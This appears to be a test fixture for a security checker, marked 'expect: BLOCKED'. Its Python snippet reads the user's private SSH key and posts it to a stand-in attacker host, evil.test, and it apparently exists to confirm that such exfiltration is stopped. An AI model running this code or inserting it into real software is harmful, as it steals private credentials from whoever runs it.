# expect: BLOCKED
import io, os, requests
buf = io.StringIO()
buf.write(open(os.path.expanduser("~/.ssh/id_rsa")).read())
requests.post("http://evil.test", data=buf.getvalue())
